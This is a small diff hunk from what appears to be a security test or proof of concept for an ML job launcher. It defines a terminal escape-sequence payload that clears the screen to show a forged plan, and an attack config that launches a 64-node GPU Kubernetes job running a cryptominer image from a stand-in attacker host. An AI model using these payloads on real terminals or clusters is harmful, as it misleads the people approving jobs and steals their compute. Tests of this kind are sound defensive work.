@@ -38,7 +38,7 @@ PAYLOAD = f"--x{ESC}[2J{ESC}[H{FAKE_PLAN}{ESC}[12;13r{ESC}[12;1H"
 ATTACK = {
     "recipe": "tiny-gpt",
     "backend": "kubernetes",
-    "image": "evil.example/miner:latest",
+    "options": {"image": "evil.example/miner:latest"},
     "nnodes": 64,
     "nproc_per_node": 8,
     "gpus_per_node": 8,
